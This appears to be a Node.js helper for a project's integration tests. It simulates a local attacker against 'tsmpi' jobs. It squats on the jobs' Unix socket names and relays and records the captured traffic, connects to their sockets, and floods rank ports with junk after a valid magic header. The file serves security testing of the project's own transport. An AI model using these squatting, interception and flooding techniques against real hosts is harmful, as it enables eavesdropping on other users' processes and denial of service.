// A local attacker against a tsmpi job on this host, run as another user (uid nobody) by
// same-host-attack.it.test.ts; plain Node, no dependencies (it runs from a copy outside the
// repository). Until its stdin closes it watches /proc/net/unix for the job's sockets and:
//   squat   binds every same-host name it can derive for the ports of --port-range before the
//           ranks do: the abstract names of the old scheme (docs/adr/0012: one prefix per job,
//           shown in /proc/net/unix) and the file names of the new one (docs/adr/0029) next to
//           every path it sees; relays every connection it gets to the rank's TCP port and
//           records what passes;
//   connect connects to every same-host socket it sees;
//   flood   connects to every port of the range, and where a rank answers with its challenge,
//           sends FLOOD_MB of junk behind a correct magic before any hello.
// Then it prints one JSON line: what it saw, could do, and captured.
// argv: mode (squat|flood) portLo portHi [floodMb]
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';

const [mode, loText, hiText, floodMbText] = process.argv.slice(2);
const lo = Number(loText);
const hi = Number(hiText);
const report = {
  uid: process.getuid(), seen: [], squatted: [], squatErrors: {}, relayed: 0, captured: '', capturedBytes: 0,
  connectOk: 0, connectErrors: {}, listErrors: {}, flooded: [], floodWritten: 0, floodReceived: [],
};
const count = (o, k) => { o[k] = (o[k] ?? 0) + 1; };
const tried = new Set();
const servers = [];

function relayTo(port) {
  return (inbound) => {
    report.relayed++;
    const out = net.connect(port, '127.0.0.1');
    inbound.on('data', (d) => { report.capturedBytes += d.length; report.captured += d.toString('latin1'); });
    out.on('data', (d) => { report.capturedBytes += d.length; report.captured += d.toString('latin1'); });
    inbound.pipe(out).pipe(inbound);
    inbound.on('error', () => out.destroy());
    out.on('error', () => inbound.destroy());
  };
}

function squat(name, port) {
  if (tried.has(`bind ${name}`)) return;
  tried.add(`bind ${name}`);
  const s = net.createServer(relayTo(port));
  s.on('error', (e) => count(report.squatErrors, e.code));
  s.listen(name, () => report.squatted.push(name.replace('\0', '@')));
  servers.push(s);
}

function watch() {
  let text = '';
  try { text = fs.readFileSync('/proc/net/unix', 'utf8'); } catch { return; }
  for (const line of text.split('\n')) {
    const m = / ([@/]\S*tsmpi-\S+)$/.exec(line);
    if (m === null) continue;
    const shown = m[1].replace(/@+$/, '');
    if (shown.startsWith('@')) {
      // The old scheme: @tsmpi-<prefix>-<host>:<port>. Only a name of a port of the range, not its
      // own, is this test's job (other jobs may run on the host: they are left alone); squat every
      // port of the range under its prefix.
      const old = /^@tsmpi-([0-9a-f]+)-127\.0\.0\.1:(\d+)$/.exec(shown);
      if (old === null || Number(old[2]) < lo || Number(old[2]) > hi || report.squatted.includes(shown)) continue;
      if (!report.seen.includes(shown)) report.seen.push(shown);
      for (let p = lo; p <= hi; p++) squat(`\0tsmpi-${old[1]}-127.0.0.1:${p}`, p);
      continue;
    }
    if (!report.seen.includes(shown)) report.seen.push(shown);
    const dir = path.dirname(shown);
    if (!tried.has(`list ${dir}`)) {
      tried.add(`list ${dir}`);
      try { fs.readdirSync(dir); count(report.listErrors, 'none'); } catch (e) { count(report.listErrors, e.code); }
    }
    // The new scheme: <dir>/t-<process>-<port>, r-<process>-<endpoint>-<epoch>; squat the other ranks' names.
    for (let proc = 0; proc < 2; proc++) for (let p = lo; p <= hi; p++) squat(path.join(dir, `t-${proc}-${p}`), p);
    squat(path.join(dir, 'r-1-1-1'), lo);
    if (!tried.has(`connect ${shown}`)) {
      tried.add(`connect ${shown}`);
      const c = net.connect(shown);
      c.on('connect', () => { report.connectOk++; c.destroy(); });
      c.on('error', (e) => count(report.connectErrors, e.code));
    }
  }
}

const MAGIC = Buffer.from([0x54, 0x53, 0x4d, 0x50, 0x49, 0x00]);
function flood(port) {
  if (tried.has(`flood ${port}`)) return;
  const c = net.connect(port, '127.0.0.1');
  let received = 0;
  let isRank = false;
  c.on('error', () => undefined);
  c.on('data', (d) => {
    received += d.length;
    if (isRank || !d.subarray(0, 6).equals(MAGIC)) return;
    isRank = true;
    tried.add(`flood ${port}`);
    report.flooded.push(port);
    const total = Number(floodMbText ?? '16') << 20;
    const junk = Buffer.alloc(1 << 20, 0x41);
    const head = Buffer.concat([Buffer.from([0x54, 0x53, 0x4d, 0x50, 0x49, 0x00, 0x02, 0x00]), junk.subarray(8)]);
    let sent = 0;
    const pump = () => {
      while (sent < total && !c.destroyed) {
        const chunk = sent === 0 ? head : junk;
        sent += chunk.length;
        report.floodWritten += chunk.length;
        if (!c.write(chunk)) { c.once('drain', pump); return; }
      }
    };
    pump();
  });
  c.on('close', () => { if (isRank) report.floodReceived.push(received); });
  // Not a rank's (mpiexec's wire-up says nothing first): leave it alone.
  setTimeout(() => { if (!isRank) c.destroy(); }, 300);
}

const timer = setInterval(() => {
  if (mode === 'squat') watch();
  else for (let p = lo; p <= hi; p++) flood(p);
}, mode === 'squat' ? 2 : 400);

process.stdin.resume();
process.stdin.on('end', () => {
  clearInterval(timer);
  for (const s of servers) s.close();
  setTimeout(() => {
    report.captured = report.captured.replace(/[^\x20-\x7e]/g, '.').slice(0, 4000);
    process.stdout.write(`${JSON.stringify(report)}\n`);
    process.exit(0);
  }, 200);
});
console.error('attacker ready');
